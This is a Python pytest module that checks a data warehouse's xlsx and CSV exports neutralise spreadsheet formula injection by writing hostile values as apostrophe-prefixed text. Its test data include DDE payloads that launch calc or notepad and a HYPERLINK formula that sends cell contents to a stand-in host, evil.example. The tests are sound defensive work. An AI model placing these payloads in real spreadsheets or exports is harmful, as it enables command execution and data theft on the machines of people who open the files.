"""Formula injection: text that came from an extract and starts with ``= + - @`` is written back into every
xlsx we produce (ledger export, per-entity export, action workbook, transfer form) as text with a leading
apostrophe, never as a formula; the CSV export likewise."""

from __future__ import annotations

import csv
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest

from warehouse.db import connect

HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?d="&A1,"点击")', "+1+cmd|' /C notepad'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
STARTS = ("=", "+", "-", "@")


@pytest.fixture(scope="module")
def hostile_warehouse(tmp_path_factory, acceptance_closed) -> Path:
    """The closed acceptance warehouse with names, entities, employee IDs and regions that are formulas, as a
    hostile extract would have made them."""
    path = tmp_path_factory.mktemp("formula") / "w.duckdb"
    shutil.copy(acceptance_closed, path)
    con = connect(path)
    n = len(HOSTILE)
    cases = " ".join(f"WHEN {i} THEN ?" for i in range(n))

    def pick(column: str) -> str:
        return f"CASE hash({column}) % {n} {cases} END"

    con.execute(f"UPDATE ledger.contributions SET name = {pick('employee_id')}, entity = ? || entity,"
                " employee_id = ? || employee_id", [*HOSTILE, "=", "@"])
    con.execute(f"UPDATE actions.cleanup_actions SET entity = ? || entity, employee_id = ? || employee_id,"
                f" details = json_merge_patch(details, json_object('name', {pick('action_id')},"
                " 'other_region', ?, 'other_employer', ?))",
                ["+", "-", *HOSTILE, "=HYPERLINK(\"http://evil\")", "@cmd|' /C calc'!A0"])
    con.execute("UPDATE ledger.employee_months SET entity = ? || entity, employee_id = ? || employee_id, region = ?",
                ["+", "-", "-1+cmd|' /C calc'!A0"])
    con.close()
    return path


def _xlsx_cells(path: Path):
    book = openpyxl.load_workbook(path)  # not read-only: data_type tells a formula from text
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield cell
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), (path.name, name)


def _check(path: Path) -> int:
    """No formula cell and no text cell starting with = + - @; returns how many neutralised hostile cells."""
    neutralised = 0
    for cell in _xlsx_cells(path):
        assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(STARTS), (path.name, cell.coordinate, cell.value)
            neutralised += cell.value.startswith(tuple("'" + s for s in STARTS))
    return neutralised


def test_ledger_exports_neutralise_formulas(hostile_warehouse, tmp_path):
    from transforms.outputs.export import export_ledger

    con = connect(hostile_warehouse)
    try:
        for role in ("hr_manager", "finance"):
            (xlsx,) = export_ledger(con, "2024-03", "xlsx", tmp_path / role, role=role)
            assert _check(xlsx) > 0, "the hostile values did not reach the export"
            for path in export_ledger(con, "2024-03", "csv", tmp_path / role, role=role):
                with path.open(encoding="utf-8-sig", newline="") as handle:
                    rows = list(csv.reader(handle))
                for row in rows[1:]:
                    for value in row:
                        if any(h in value for h in ("cmd|", "HYPERLINK", "SUM(")):
                            assert value.startswith("'"), (path.name, value)
                        assert not value.startswith(("=", "@")), (path.name, value)
    finally:
        con.close()


def test_per_entity_exports_of_the_close_neutralise_formulas(hostile_warehouse, tmp_path):
    from transforms.outputs.entities import entity_slices, write_entity_outputs

    con = connect(hostile_warehouse, read_only=True)
    try:
        slices = entity_slices(con, "2024-03")
    finally:
        con.close()
    found = 0
    for entity, ledger, actions in slices:
        result = write_entity_outputs(entity, ledger, actions, tmp_path)
        found += sum(_check(tmp_path / name) for name in result["files"] if name.endswith(".xlsx"))
    assert found > 0


def test_action_workbook_and_transfer_forms_neutralise_formulas(hostile_warehouse, tmp_path):
    from transforms.actions.workbook import write_workbook
    from transforms.outputs.forms import write_forms

    con = connect(hostile_warehouse)
    try:
        for role in ("hr_manager", "hr_staff"):
            workbook = write_workbook(con, tmp_path / role / "actions.xlsx", role)
            assert _check(workbook) > 0, "the hostile values did not reach the workbook"
            forms = [p for p in write_forms(con, tmp_path / role / "forms", role) if p.suffix == ".xlsx"]
            assert forms, "the acceptance close has transfers to initiate"
            assert all(_check(p) > 0 for p in forms)
            for page in (tmp_path / role / "forms").glob("*.html"):  # and the HTML forms escape them
                assert "<a " not in page.read_text(encoding="utf-8").lower()
    finally:
        con.close()
